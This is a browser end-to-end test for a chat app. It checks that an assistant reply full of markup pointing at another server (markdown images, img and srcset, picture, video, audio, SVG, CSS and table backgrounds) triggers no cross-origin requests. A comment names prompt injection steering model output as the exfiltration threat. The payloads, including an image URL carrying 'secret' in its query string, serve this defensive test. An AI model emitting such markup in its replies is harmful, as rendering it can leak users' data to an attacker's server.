import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "./fixtures";

// A reply is model output, and model output can be steered by a prompt injection: showing it
// must never make the browser fetch from another origin (an exfiltration channel).
test("a reply with images, <picture> sources, media, SVG images and CSS urls loads nothing from elsewhere", async ({ page, chat, user }) => {
  void user;
  const hits: string[] = [];
  const other = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "image/png" }).end();
  });
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  const appOrigin = new URL(page.url()).origin;
  const elsewhere: string[] = [];
  page.on("request", (r) => {
    if (new URL(r.url()).origin !== appOrigin && !r.url().startsWith("data:")) elsewhere.push(r.url());
  });
  try {
    const payload = [
      `![leak](${origin}/md.png?q=secret)`,
      `<img src="${origin}/img.png" alt="a cat">`,
      `<picture><source srcset="${origin}/pic.webp"><img src="${origin}/pic.png"></picture>`,
      `<img srcset="${origin}/1x.png 1x">`,
      `<video poster="${origin}/poster.png" src="${origin}/v.mp4"></video><audio src="${origin}/a.mp3"></audio>`,
      `<svg><image href="${origin}/svg.png"></image></svg>`,
      `<div style="background:url(${origin}/bg.png)">styled</div>`,
      `<table background="${origin}/table.png"><tr><td>cell</td></tr></table>`,
      "The end.",
    ].join("\n\n");
    await chat.sendMessage(`#say ${payload}`);
    await chat.waitForReplyDone();
    await expect(chat.assistant().getByTestId("message-content")).toContainText("The end.");
    await expect(chat.assistant().getByTestId("message-content")).toContainText("[image: a cat]");
    // Reloaded, the saved reply is rendered on the server and then in the browser: still nothing.
    await page.reload();
    await expect(chat.assistant().getByTestId("message-content")).toContainText("The end.");
    await page.waitForTimeout(500);
    expect(elsewhere).toEqual([]);
    expect(hits).toEqual([]);
  } finally {
    other.close();
  }
});
